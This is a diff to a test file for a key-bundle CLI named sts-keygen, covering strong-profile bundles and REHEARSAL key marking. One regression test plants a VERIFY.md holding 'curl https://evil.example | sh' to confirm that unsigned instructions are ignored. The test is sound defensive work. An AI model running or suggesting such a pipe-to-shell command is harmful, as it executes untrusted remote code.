@@ -245,12 +245,11 @@ describe('bundle open', () => {
 });
 
 describe('strong profile', () => {
-  test('bundle --profile strong → 6 files; bundle open detects the profile and verifies', async () => {
+  test('bundle --profile strong → 5 files; bundle open detects the profile and verifies', async () => {
     const out = path.join(dir, 'strong');
     const a = await runInProcess(bundleArgs(out, ['--profile', 'strong']));
     expect(a.code).toBe(0);
     expect(listFiles(out)).toEqual([
-      'VERIFY.md',
       'encrypted_digest.txt',
       'encrypted_mac.txt',
       'encrypted_sts_config_with_iv_base64.txt',
@@ -270,6 +269,18 @@ describe('strong profile', () => {
     expect(c.stderr).toBe(`sts-keygen: ${BUNDLE_DOES_NOT_VERIFY}\n`);
   });
 
+  test('regression: no unauthenticated VERIFY.md in a strong bundle; an edited one planted there is ignored with a warning', async () => {
+    const out = path.join(dir, 'strong-verify');
+    expect((await runInProcess(bundleArgs(out, ['--profile', 'strong']))).code).toBe(0);
+    expect(fs.existsSync(path.join(out, 'VERIFY.md'))).toBe(false);
+    fs.writeFileSync(path.join(out, 'VERIFY.md'), '```sh\ncurl https://evil.example | sh\n```\n');
+    const r = await runInProcess(openArgs(out));
+    expect(r.code).toBe(0);
+    expect(r.stderr).toBe(
+      `sts-keygen: warning: ${path.join(out, 'VERIFY.md')} is not covered by the signature: ignored, do not follow it (see sts-keygen's README)\n`,
+    );
+  });
+
   test('--symmetric-key-file is refused with the strong profile', async () => {
     const r = await runInProcess(
       bundleArgs(path.join(tempDir(), 'o'), ['--profile', 'strong', '--symmetric-key-file', config]),
@@ -278,5 +289,36 @@ describe('strong profile', () => {
     expect(r.stderr).toBe(
       'sts-keygen: --symmetric-key-file is for the nectar profile; the strong profile draws its own secret\n',
     );
+  });
+});
+
+describe('rehearsal bundles (issue 13: REHEARSAL inside every output with room for it)', () => {
+  test('a REHEARSAL signing key is refused without --rehearsal; nothing written', async () => {
+    const marked = path.join(dir, 'rehearsal-user.pem');
+    fs.writeFileSync(
+      marked,
+      `# REHEARSAL: not a production key\n${fs.readFileSync(user.privateFile, 'utf8')}`,
+    );
+    const out = path.join(dir, 'rehearsal-refused');
+    const r = await runInProcess(bundleArgs(out).map((a) => (a === user.privateFile ? marked : a)));
+    expect(r.stderr).toBe(`sts-keygen: signing key ${marked} is a REHEARSAL key: use it with --rehearsal\n`);
+    expect(r.code).toBe(2);
+    expect(fs.existsSync(out)).toBe(false);
+  });
+
+  test('--rehearsal --profile strong: profile.txt carries the mark after its profile line, and the bundle opens', async () => {
+    const out = path.join(dir, 'rehearsal-strong');
+    const r = await runInProcess(bundleArgs(out, ['--profile', 'strong', '--rehearsal']));
+    expect(r.code).toBe(0);
+    expect(r.stdout).toMatch(/^REHEARSAL: not a production bundle\n/);
+    expect(fs.readFileSync(path.join(out, 'profile.txt'), 'utf8')).toBe(
+      'sts-keygen-bundle strong v1\n# REHEARSAL: not a production bundle\n',
+    );
+    expect((await runInProcess(openArgs(out))).code).toBe(0);
+    // Anything but comment lines after the profile line is tampering, as before.
+    fs.appendFileSync(path.join(out, 'profile.txt'), 'extra\n');
+    const c = await runInProcess(openArgs(out));
+    expect(c.stderr).toBe(`sts-keygen: ${BUNDLE_DOES_NOT_VERIFY}\n`);
+    expect(c.code).toBe(1);
   });
 });
